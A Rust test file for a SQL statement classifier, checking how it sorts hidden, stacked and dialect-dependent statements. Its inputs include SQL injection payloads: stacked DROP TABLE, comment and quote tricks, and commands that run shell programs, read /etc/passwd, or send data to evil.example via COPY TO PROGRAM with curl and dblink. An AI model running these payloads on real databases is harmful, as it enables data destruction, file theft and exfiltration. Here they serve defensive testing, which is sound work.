//! What hides statements from a reader, or only seems to.

use crate::hold;

#[test]
fn what_stands_in_a_string_a_name_or_a_comment_is_no_statement() {
    hold(
        "sql.kinds",
        &[
            ("SELECT 'DROP TABLE t'", "select"),
            ("SELECT 'it''s; DROP TABLE t'", "select"),
            ("SELECT \"DROP TABLE t\" FROM u", "select"),
            ("SELECT 1 -- DROP TABLE t", "select"),
            ("SELECT 1 -- DROP TABLE t\n", "select"),
            ("SELECT 1 /* ; DROP TABLE t */", "select"),
            ("SELECT 1 /* -- */ /* ' */", "select"),
            ("SELECT drop_date FROM t", "select"),
            ("SELECT '/*' , '*/'", "select"),
            ("SELECT '--'", "select"),
            ("SELECT 'a\\nb'", "select"),
        ],
    );
}

#[test]
fn what_only_looks_hidden_is_found() {
    hold(
        "sql.kinds",
        &[
            ("SELECT 1; DROP TABLE t", "drop select"),
            ("SELECT 1;DROP/**/TABLE/**/t", "drop select"),
            ("SELECT 1; dRoP tAbLe t; -- rest", "drop select"),
            ("SELECT 1 -- '\n; DROP TABLE t -- '", "drop select"),
            ("SELECT ''''; DROP TABLE t -- '", "?"),
            ("SELECT 'a'''; DROP TABLE t -- '", "drop select"),
            ("SELECT 1 /* ' */; DROP TABLE t /* ' */", "drop select"),
            ("SELECT '/*'; DROP TABLE t; SELECT '*/'", "drop select"),
            ("SELECT\t1\n;\nDROP\r\nTABLE t", "drop select"),
            ("(SELECT 1); DROP TABLE t", "drop select"),
            ("EXPLAIN ANALYZE UPDATE t SET a = 1", "explain update"),
            ("WITH a AS (SELECT 1), b AS (UPDATE t SET x = 1 RETURNING *) SELECT * FROM a", "select update"),
            ("INSERT INTO t SELECT * FROM u; TRUNCATE u", "insert select truncate"),
        ],
    );
}

#[test]
fn what_databases_read_differently_has_no_answer() {
    let table: Vec<(&str, &str)> = [
        // A backslash ends or does not end the string.
        "SELECT 'a\\'; DROP TABLE t; -- '",
        "SELECT E'a\\'; DROP TABLE t; -- '",
        "SELECT \"a\\\"; DROP TABLE t; -- \"",
        "SELECT 'a\\\\\\'; DROP TABLE t; -- '",
        // Comments to some.
        "SELECT 1 # ; DROP TABLE t",
        "SELECT 1 --1; DROP TABLE t",
        "SELECT 1 // ; DROP TABLE t",
        "SELECT a #>> '{x}' FROM t",
        // MySQL runs these comments.
        "SELECT 1 /*! ; DROP TABLE t */",
        "SELECT 1 /*!50000 UNION SELECT password FROM users */",
        "SELECT 1 /*M! ; DROP TABLE t */",
        // Comments within comments end here or there.
        "SELECT 1 /* /* */ ; DROP TABLE t -- */",
        "SELECT 1 /* open",
        // Quotes of one database.
        "SELECT $$a$$",
        "SELECT $x$ '; DROP TABLE t; -- $x$",
        "SELECT '''a'; DROP TABLE t; --'''",
        "SELECT q'[it's]' FROM dual",
        "SELECT q'!'!'; DROP TABLE t",
        "SELECT * FROM `a'; DROP TABLE t; --`",
        "SELECT * FROM [a'; DROP TABLE t; --]",
        "SELECT * FROM U&\"\\0075sers\"",
        // Line ends and blanks of one database.
        "SELECT 1 -- a\rDROP TABLE t",
        "SELECT 1;\rDROP TABLE t",
        "SELECT 1;\u{b}DROP TABLE t",
        "SELECT 1;\u{a0}DROP TABLE t",
        "SELECT\u{3000}1",
        "SELECT 1\0; DROP TABLE t",
        // Statements that need no semicolon in SQL Server.
        "SELECT 1 SHUTDOWN",
        "SELECT * FROM t GO",
        // Commands of clients.
        "\\! rm -rf /",
        "SELECT 1 \\gexec",
        "DELIMITER // SELECT 1",
        "SELECT 'open",
        "not sql at all",
        "DROP TABEL t",
    ]
    .into_iter()
    .map(|text| (text, "?"))
    .collect();
    for facet in ["sql.kinds", "sql.tables", "sql.writes", "sql.functions", "sql.statements", "sql.where"] {
        hold(facet, &table);
    }
}

#[test]
fn what_runs_text_or_reaches_beyond_the_tables_has_no_answer() {
    let table: Vec<(&str, &str)> = [
        "EXECUTE stolen",
        "EXECUTE IMMEDIATE 'DROP TABLE t'",
        "EXEC('DROP TABLE t')",
        "EXEC xp_cmdshell 'dir'",
        "PREPARE p AS DELETE FROM t",
        "PREPARE p FROM 'DROP TABLE t'",
        "DO $$ BEGIN DROP TABLE t; END $$",
        "COPY t TO PROGRAM 'curl evil.example'",
        "COPY t FROM PROGRAM 'id'",
        "COPY t FROM STDIN; DROP TABLE u",
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT pg_catalog.pg_read_binary_file('/etc/passwd')",
        "SELECT lo_import('/etc/passwd')",
        "SELECT lo_export(1, '/tmp/x')",
        "SELECT * FROM dblink('host=evil.example', 'SELECT 1') AS t(a int)",
        "SELECT query_to_xml('DELETE FROM t', true, true, '')",
        "SELECT load_file('/etc/passwd')",
        "SELECT load_extension('/tmp/x.so')",
        "SELECT writefile('/tmp/x', 'a')",
        "SELECT sys_exec('id')",
        "SELECT * FROM OPENROWSET('SQLNCLI', 'x', 'SELECT 1')",
        "SELECT * INTO OUTFILE '/tmp/x' FROM t",
    ]
    .into_iter()
    .map(|text| (text, "?"))
    .collect();
    hold("sql.kinds", &table);
    hold("sql.writes", &table);
}
